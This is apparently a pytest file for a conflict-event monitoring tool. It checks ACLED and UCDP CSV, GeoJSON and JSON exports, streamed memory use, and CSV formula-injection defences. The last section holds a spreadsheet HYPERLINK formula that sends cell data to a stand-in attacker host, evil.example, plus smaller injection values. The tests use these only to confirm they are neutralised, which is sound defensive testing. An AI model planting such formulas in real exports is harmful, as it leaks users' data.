"""Exports: ACLED's columns and codes, UCDP's precisions and deaths, GeoJSON and JSON, streamed."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import shutil
import tracemalloc
from pathlib import Path

import pytest
from typer.testing import CliRunner

from ceasefire.cli import app
from ceasefire.extract.evaluate import Event, write_predictions
from ceasefire.intake.acled import COLUMNS
from ceasefire.ledger.keys import load_private, new_key
from ceasefire.model import ClaimDate
from ceasefire.pipeline import assess_incidents, cluster_claims, extract, ingest, publish
from ceasefire.publish.exports import ExportFormat, acled_row, export, ucdp_row, write_acled_csv
from ceasefire.store import Store
from ceasefire.store.incident_query import IncidentQuery
from tests.intake.test_formats import acled_csv
from tests.publish.conftest import incident, words


def test_acled_columns_are_acleds_31_in_acleds_order(monitored: Store, syria_pack) -> None:
    out = io.StringIO()
    count = write_acled_csv(monitored.iter_incidents(), syria_pack, out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[0] == list(COLUMNS) and len(rows[0]) == 31
    assert rows[0][0] == "event_id_cnty" and rows[0][-1] == "timestamp"
    assert count == len(rows) - 1 == len(monitored.incidents())


def test_acled_row_codes_actors_place_and_the_most_conservative_toll(syria_pack) -> None:
    row = acled_row(incident(1, deaths=(3, 5, 8)), syria_pack, timestamp=1700000000)
    assert (row["actor1"], row["inter1"], row["actor2"], row["inter2"], row["interaction"]) == (
        "Syrian Arab Army", 1, "Civilians", 7, 17)
    assert row["civilian_targeting"] == "Civilian targeting" and row["disorder_type"] == "Political violence"
    assert (row["iso"], row["country"], row["admin1"], row["location"]) == (760, "Syria", "Rif Dimashq", "Douma")
    assert (row["event_date"], row["year"], row["time_precision"], row["geo_precision"]) == ("2017-01-08", 2017, 1, 1)
    assert row["fatalities"] == 3  # low, not best (5) or high (8)
    assert row["source"] == "Agence France-Presse; Reuters"
    assert row["notes"] == ("On 2017-01-08, Shelling/artillery/missile attack at Douma by Syrian Arab Army "
                            "against Civilians.")


def test_acled_event_date_is_the_middle_of_a_ranged_date(syria_pack) -> None:
    ranged = incident(2).model_copy(update={"date": ClaimDate(evidence=words("last week"), earliest=dt.date(2017, 1, 2),
                                                               latest=dt.date(2017, 1, 8), time_precision=2)})
    row = acled_row(ranged, syria_pack, timestamp=0)
    assert (row["event_date"], row["time_precision"]) == ("2017-01-05", 2)


def test_ucdp_row_keeps_low_best_high_and_precisions(syria_pack) -> None:
    row = ucdp_row(incident(3, deaths=(3, 5, 8)), syria_pack)
    assert (row["low"], row["best"], row["high"], row["deaths_civilians"]) == (3, 5, 8, 5)
    assert (row["where_prec"], row["date_prec"], row["type_of_violence"]) == (1, 1, 3)
    assert (row["side_a"], row["side_b"], row["date_start"], row["date_end"]) == (
        "Syrian Arab Army", "Civilians", "2017-01-08", "2017-01-08")
    # PRIO-GRID: half-degree cells numbered row by row from (-90, -180): row 247, column 432
    assert row["priogrid_gid"] == 247 * 720 + 432 + 1 and row["geom_wkt"] == "POINT (36.4022 33.5722)"


def test_geojson_and_json_hold_every_incident(monitored: Store, syria_pack) -> None:
    stored = monitored.incidents()
    geo, whole = io.StringIO(), io.StringIO()
    export(monitored.iter_incidents(), syria_pack, ExportFormat.GEOJSON, geo)
    export(monitored.iter_incidents(), syria_pack, ExportFormat.JSON, whole)
    features = json.loads(geo.getvalue())["features"]
    assert len(features) == sum(1 for s in stored if s.incident.place)
    assert {f["properties"]["verdict"] for f in features} >= {"VIOLATION", "DISPUTED", "UNVERIFIED"}
    elements = json.loads(whole.getvalue())
    assert [e["id"] for e in elements] == [s.incident.id for s in stored]
    assert all(e["verdict"] == s.verdict and e["actors"] == s.incident.model_dump(mode="json")["actors"]
               for e, s in zip(elements, stored, strict=True))


def test_export_command_filters_and_writes_to_stdout(monitored: Store) -> None:
    db = str(monitored.engine.url.database)
    result = CliRunner().invoke(app, ["export", "--format", "json", "--out", "-", "--db", db,
                                      "--verdict", "VIOLATION", "--since", "2017-01-01"])
    assert result.exit_code == 0, result.output
    exported = json.loads(result.stdout)
    query = IncidentQuery(verdict="VIOLATION", since=dt.date(2017, 1, 1))
    expected = [s.incident.id for s in monitored.incidents(query)]
    assert [e["id"] for e in exported] == expected and expected


def test_streamed_incidents_equal_the_listed_ones_across_batches(store: Store) -> None:
    store.save_incidents([incident(n, day=dt.date(2017, 1, 1 + n % 20)) for n in range(30)])
    assert [s.incident.id for s in store.iter_incidents(batch=7)] == [s.incident.id for s in store.incidents()]
    query = IncidentQuery(since=dt.date(2017, 1, 10), actor_sets=(frozenset({"syrian-arab-army"}),))
    assert [s.incident for s in store.iter_incidents(query, batch=4)] == [s.incident for s in store.incidents(query)]


@pytest.mark.parametrize("format", list(ExportFormat))
def test_streamed_export_memory_does_not_grow_with_the_incidents(tmp_path, syria_pack, format: ExportFormat) -> None:
    store = Store.open(str(tmp_path / "many.db"))
    store.save_incidents([incident(n) for n in range(1500)])

    def peak(incidents) -> int:
        tracemalloc.start()
        export(incidents(), syria_pack, format, _Discard())
        size = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return size

    listed, streamed = peak(store.incidents), peak(lambda: store.iter_incidents(batch=100))
    assert streamed < listed / 3, f"streamed export peaked at {streamed:,} bytes, the list at {listed:,}"


class _Discard(io.StringIO):
    """A sink that keeps nothing, so only the export's own memory is measured."""

    def write(self, text: str) -> int:
        return len(text)


# -- CSV formula injection: a cell a spreadsheet would run as a formula is written as text ----------

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")'


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory, syria_pack, extractor) -> Path:  # type: ignore[no-untyped-def]
    """An ACLED row whose actor is a spreadsheet formula, west of Greenwich, through the whole pipeline."""
    folder = tmp_path_factory.mktemp("hostile")
    coded = folder / "acled.csv"
    coded.write_text(acled_csv({"actor1": HOSTILE.replace('"', '""'), "longitude": "-3.2"}))
    store = Store.open(str(folder / "hostile.db"))
    assert not ingest(store, [coded], pack=syria_pack).rejected
    extract(store, extractor)
    cluster_claims(store, syria_pack)
    assess_incidents(store, syria_pack)
    store.close()
    return folder / "hostile.db"


def _exported(db: Path, format: str) -> str:
    result = CliRunner().invoke(app, ["export", "--format", format, "--out", "-", "--db", str(db)])
    assert result.exit_code == 0, result.output
    return result.stdout


@pytest.mark.parametrize(("format", "actor"), [("acled-csv", "actor1"), ("ucdp-csv", "side_a")])
def test_a_formula_in_coded_data_is_neutralised_in_each_csv_export(hostile_db: Path, format: str, actor: str) -> None:
    (row,) = csv.DictReader(io.StringIO(_exported(hostile_db, format)))
    assert row[actor] == "'" + HOSTILE
    assert row["longitude"] == "-3.2"  # a number stays a number


def test_the_json_export_keeps_the_raw_value(hostile_db: Path) -> None:
    (element,) = json.loads(_exported(hostile_db, "json"))
    assert HOSTILE in [a["name"] for a in element["actors"]]
    (feature,) = json.loads(_exported(hostile_db, "geojson"))["features"]
    assert feature["geometry"]["coordinates"][0] == -3.2


def test_the_signed_bundle_csv_is_neutralised(hostile_db: Path, syria_pack, tmp_path: Path) -> None:
    copy = tmp_path / "copy.db"
    shutil.copy(hostile_db, copy)
    new_key("body", tmp_path)
    publish(Store.open(str(copy)), syria_pack, tmp_path / "bundle", load_private(tmp_path / "body.key"), "mission")
    with (tmp_path / "bundle" / "events-acled.csv").open(newline="") as handle:
        (row,) = csv.DictReader(handle)
    assert (row["actor1"], row["longitude"]) == ("'" + HOSTILE, "-3.2")


def test_written_predictions_are_neutralised_too(tmp_path: Path) -> None:
    event = Event(doc_id="d1", date=dt.date(2017, 1, 5), time_precision=1, sub_event_type="Armed clash",
                  actor1=HOSTILE, actor2="@SUM(1+1)", location="-Ain", latitude=33.6, longitude=-3.2, notes="\tx")
    write_predictions(tmp_path / "predicted.csv", [event])
    with (tmp_path / "predicted.csv").open(newline="") as handle:
        (row,) = csv.DictReader(handle)
    assert (row["actor1"], row["actor2"], row["location"], row["notes"]) == ("'" + HOSTILE, "'@SUM(1+1)", "'-Ain",
                                                                             "'\tx")
    assert (row["latitude"], row["longitude"]) == ("33.6", "-3.2")
